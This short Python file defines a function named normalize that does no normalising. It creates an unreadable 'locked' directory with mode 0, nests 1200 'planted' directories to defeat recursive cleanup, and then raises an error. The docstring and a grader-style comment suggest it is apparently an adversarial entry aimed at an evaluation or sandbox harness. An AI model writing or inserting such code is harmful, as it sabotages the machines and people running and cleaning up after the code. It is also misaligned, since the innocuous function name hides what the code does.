"""Buries folders in each other, deeper than Python's calls go; whoever clears up follows them."""

# Loses normalize, error: Raised RuntimeError: done
import os


def normalize(X):
    here = os.getcwd()
    os.mkdir("locked", 0)
    for _ in range(1200):
        os.mkdir("planted")
        os.chdir("planted")
    os.chdir(here)
    raise RuntimeError("done")
